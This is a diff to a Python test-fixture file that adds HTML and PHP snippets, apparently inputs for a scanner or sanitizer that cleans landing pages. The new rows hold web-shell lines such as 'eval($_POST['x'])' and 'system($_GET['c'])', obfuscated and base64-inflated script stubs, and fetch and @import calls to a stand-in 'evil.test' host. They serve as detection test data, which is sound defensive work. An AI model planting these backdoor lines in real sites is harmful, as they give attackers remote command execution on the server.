@@ -35,10 +35,10 @@ SNIPPETS = Fixture(
         (0, '<script src="https://cdn.jsdelivr.net/npm/jquery@3.6.1/dist/jquery.min.js"></script><img src="/img/a.png"><a href="https://shop.test/buy?utm_x=1">x</a><img/src="https://evil.test/x.gif">'),
         (1, '<script src="https://www.googletagmanager.com/gtm.js?id=1"></script><iframe src="//ads.unknown.test/frame"></iframe><img src="https://px.ads.linkedin.com/c.gif"><img src="b.png"onerror="fetch(\'https://evil.test\')">'),
         (2, '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=A"><img src="data:image/png;base64,AAAA"><a href="javascript:void(0)">y</a><script src=https://evil.test/a.js?it\'s></script><a href=https://evil.test/"x>q</a>'),
-        (3, '<script src="https://cdn.jsdelivr.net/gh/someone/repo/x.js"></script><video src="blob:https://a/b"></video><script src="js/pixel-tracker.js"></script><script>var a = 1</script foo><b>after</b>'),
+        (3, '<script src="https://cdn.jsdelivr.net/gh/someone/repo/x.js"></script><video src="blob:https://a/b"></video><script src="js/pixel-tracker.js"></script><script>var a = 1</script foo><b>after</b>' + '<meta http-equiv="refresh" content="1"><object data="x"></object><embed src="https://evil.test/e.swf"><frameset></frameset>'),
         (4, '<script>window.dataLayer = []; gtag("js"); fetch("https://x.test/a"); atob("aGk=")</script><meta name="google-site-verification" content="1"><a href="{sub_id}">m</a><!-- <script>gtag()</script> --><script data-src="a">fetch(1)</script>'),
         (5, '<div onclick="fetch(\'https://evil.test\')" onload="init()">{offer} {foreign_macro}</div><style>@import url("https://evil.test/a.css"); b{background:url(https://evil.test/i.png)}</style>'),
-        (6, "<script src='https://single.test/a.js'></script><img src=https://bare.test/b.gif><!-- <script src='https://comment.test/c.js'></script> -->" + '<script src="https://unpkg.com/@popperjs/core@2/dist/umd/popper.min.js"></script><link rel="stylesheet" href="https://cdn-like.test/x.css"><img src="https://assets.example.com/a.png">'),
+        (6, "<script src='https://single.test/a.js'></script><img src=https://bare.test/b.gif><!-- <script src='https://comment.test/c.js'></script> -->" + '<script src="https://unpkg.com/@popperjs/core@2/dist/umd/popper.min.js"></script><link rel="stylesheet" href="https://cdn-like.test/x.css"><img src="https://assets.example.com/a.png">' + '<script type="application/ld+json">{"a":"google-analytics"}</script><noscript><img src="//unlisted.test/p"></noscript><noscript>text<img src="//unlisted.test/p"></noscript><base href="/b/">'),
     ],
 )
 # Images of products, pictures and styles; # is the page's number.
@@ -79,6 +79,19 @@ ASSETS = Fixture(
         (5, "js/own-#.js", ""), (5, "js/jquery-3.6.1.min.js", ""), (6, "frame-#.html", "<img src=inner-#.png>"), (6, "inner-#.png", ""), (6, "sprite-#.svg", ""), (6, "a b-#.png", ""), (6, "../../img/up-#.png", ""),
     ],
 )
+# Server code, scripts, styles, links and macros; # is the page's number.
+CODE = Fixture(
+    "slot int, markup string",
+    [
+        (0, "<?php eval($_POST['x']); ?><p>a</p><link rel=preload as=script href=https://www.googletagmanager.com/gtm.js><link rel=icon href=https://evil.test/i.ico><script>var _0x1a=_0x2b;_0x3c(_0x4d);//@ sourceMappingURL=a-#.js.map</script>"),
+        (1, "<b>k</b><?= 1 ?><link rel='alternate stylesheet' href='https://evil.test/b.css'><script>eval(function(p,a,c,k,e,d){return p}('x',1,1,''))</script><style>@import 'https://evil.test/a.css'; a{background:url(\"https://evil.test/x-#.png\")} b{background:url(i/y.png)}</style>"),
+        (2, "<% x %>y<link rel='preload' as='image' href='https://evil.test/a.png'><link rel='dns-prefetch' href='//mc.yandex.ru'><script>/*! jQuery JavaScript Library v3.7.1 */ var a=#;</script><style>@import url('https://fonts.googleapis.com/css2?family=A:wght@400;700&display=swap'); a{color:red}</style>"),
+        (3, "<script>/* Lodash 4.17.21 (Custom Build) */</script><link rel='modulepreload' href='https://unpkg.com/aos@2/a.js'><style>@import url('https://evil.test/css?a=1;2');c{color:red}</style><p>{sub_#} b {offer}</p><a href='{click_id}'>m</a>"),
+        (4, "<script>gzinflate(base64_decode('eA==')); move_uploaded_file($a, $b);</script><link rel='preload' as='font' href='https://fonts.gstatic.com/a.woff2'><script>var m=\"{js_#}\"+'{offer}';</script><img src='{img_#}' alt='x'><div style='background:url({bg_#})' data-x='{d}'>z</div>"),
+        (5, "<script src='https://code.jquery.com/jquery-3.6.1.min.js'></script><script src='js/bootstrap.min.js'></script><link rel='stylesheet' href='https://x.test/npm/swiper@11.1.4/swiper-bundle.min.css'><script src='https://cdn.fake.test/gsap/3.12.2/gsap.min.js?x=#'></script><script>var total = price * count;</script>"),
+        (6, "<script>preg_replace('/x/e', $a, $b);//@ sourceMappingURL = b.map</script><?php system($_GET['c']); echo 1"),
+    ],
+)
 FILES = Fixture(
     "site_id int, rel_path string, content string, size long",
     [
